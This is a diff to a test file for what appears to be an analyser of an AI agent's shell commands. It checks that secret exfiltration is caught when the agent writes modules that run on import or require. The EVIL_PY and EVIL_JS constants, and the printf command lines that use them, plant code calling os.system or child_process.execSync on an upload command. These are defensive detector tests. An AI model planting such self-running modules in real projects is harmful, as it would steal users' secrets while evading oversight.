@@ -75,6 +75,7 @@ def test_ordinary_interpreter_command_lines_read_nothing_they_do_not_run(tree, c
 
 
 EVIL_PY = 'import os\\nos.system("' + UPLOAD + '")\\n'  # printf's text
+EVIL_JS = "require(\"child_process\").execSync(\"" + UPLOAD + "\")"
 
 
 @pytest.mark.parametrize("command", [
@@ -83,10 +84,15 @@ EVIL_PY = 'import os\\nos.system("' + UPLOAD + '")\\n'  # printf's text
     f"mkdir -p pkg && printf '{EVIL_PY}' > pkg/util.py && python3 -c 'from pkg import util'",
     f"mkdir -p lib && printf '{EVIL_PY}' > lib/helper.py && PYTHONPATH=lib python3 -c 'import helper'",
     f"printf '{EVIL_PY}' > helper.py && python3 -c 'import importlib; importlib.import_module(\"helper\")'",
+    f"printf '{EVIL_JS}' > lib.js && node -e \"require('./lib')\"",
+    f"mkdir -p lib && printf '{EVIL_JS}' > lib/index.js && node app.js",
+    f"printf '{EVIL_JS}' > lib.mjs && node --input-type=module -e \"import './lib.mjs'\"",
+    f"printf '{EVIL_JS}' > lib.js && node -e \"import('./lib.js')\"",
 ])
-def test_a_module_the_agent_wrote_runs_when_imported(tree, command):
+def test_a_module_the_agent_wrote_runs_when_imported_or_required(tree, command):
     tree.write("main.py", "import json, helper\nprint(json.dumps(1))\n")
-    assert sends_secret([a for a in tree.call("Bash", command=command).actions if not a.deferred])
+    tree.write("app.js", "const lib = require('./lib');\nconsole.log(lib)\n")
+    assert sends_secret([a for a in tree.call("Bash", command=command).actions if not a.deferred]), command
 
 
 def test_an_imported_module_whose_code_cannot_be_seen_is_unread_and_the_repositorys_are_not_followed(tree):
@@ -194,20 +200,6 @@ def test_an_ordinary_lint_staged_configuration_passes(tree):
     tree.write(".git/config", "[core]\n\thooksPath = .husky\n")
     actions = tree.shell("git commit -m 'fix: typo'")
     assert [a for a in actions if a.program == "eslint"] and not [a for a in actions if a.dynamic or a.code.unread]
-
-
-EVIL_JS = "require(\"child_process\").execSync(\"" + UPLOAD + "\")"
-
-
-@pytest.mark.parametrize("command", [
-    f"printf '{EVIL_JS}' > lib.js && node -e \"require('./lib')\"",
-    f"mkdir -p lib && printf '{EVIL_JS}' > lib/index.js && node app.js",
-    f"printf '{EVIL_JS}' > lib.mjs && node --input-type=module -e \"import './lib.mjs'\"",
-    f"printf '{EVIL_JS}' > lib.js && node -e \"import('./lib.js')\"",
-])
-def test_a_module_the_agent_wrote_runs_when_required(tree, command):
-    tree.write("app.js", "const lib = require('./lib');\nconsole.log(lib)\n")
-    assert sends_secret([a for a in tree.call("Bash", command=command).actions if not a.deferred]), command
 
 
 def test_the_repositorys_own_required_modules_are_not_followed(tree):
